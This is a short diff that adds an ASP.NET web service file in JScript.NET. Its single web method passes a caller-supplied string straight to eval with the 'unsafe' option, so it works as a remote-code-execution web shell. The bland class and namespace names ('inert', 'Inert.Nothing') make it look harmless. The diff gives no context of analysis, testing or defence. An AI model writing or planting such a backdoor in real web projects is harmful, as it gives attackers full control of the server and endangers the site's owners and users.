@@ -1,0 +1,2 @@
+<%@ WebService Language="JScript" class="inert" %>
+import System; import System.Web; import Inert.Nothing; public class inert { WebMethodAttribute function Do(z : String) : void { var Request = HttpContext.Current.Request; eval(z, "unsafe"); } }
